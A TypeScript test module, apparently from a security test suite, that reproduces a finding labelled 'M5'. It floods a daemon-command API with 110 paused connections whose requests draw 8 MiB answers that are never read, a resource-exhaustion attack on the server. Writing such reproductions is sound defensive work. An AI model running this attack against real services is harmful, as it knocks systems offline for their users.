/** M5: unread answers of 8 MiB, of one key. */
import { requestText } from "../fixture.ts"
import { type Attack, attackerAddress } from "./attack.ts"
import { type DaemonTally, keepDaemons } from "./attacker-daemons.ts"
import { resultText } from "./daemon-socket.ts"
import { emptyTally, keepOpen } from "./sockets.ts"

const connections = 110
const daemons = 2
const resultChars = 8_300_000

/** Of one key. */
export const unreadAnswers: Attack = {
  finding: "M5",
  asks: `${connections} unread answers of 8 MiB of one key`,
  holds: () => ({ plan: "free", keys: 1, daemons }),
  strike: async (target) => {
    const daemon: DaemonTally = { online: 0, closed: 0 }
    const [tally, { keys = [], daemons: own = [] }] = [emptyTally(), target.holder ?? { keys: [], daemons: [] }]
    const result = `"${"x".repeat(target.tiny ? resultChars / 10 : resultChars)}"`
    let results = 0
    const command = (id: string, socket: { send: (texts: ReadonlyArray<string>) => boolean }): void => {
      results++
      target.reach()
      socket.send([resultText(id, result)])
    }
    const text = (at: number): string =>
      requestText(target.url.origin, {
        method: "POST",
        path: `/api/v1/daemons/${own[at % own.length]?.daemonId}/command`,
        headers: { authorization: `Bearer ${keys[0]}`, "content-type": "application/json" },
        body: '{"type":"read_chat","payload":{}}'
      })
    let asking: Promise<void> | undefined
    await keepDaemons(target, daemon, { command }, () => {
      if (daemon.online < own.length) return
      asking ??= keepOpen(target, target.tiny ? 8 : connections, attackerAddress, tally, (socket, at) => {
        socket.pause()
        socket.write(text(at))
      })
    })
    await asking
    return { results, ...daemon, connections: tally.opened, connectionsClosed: tally.closed }
  }
}
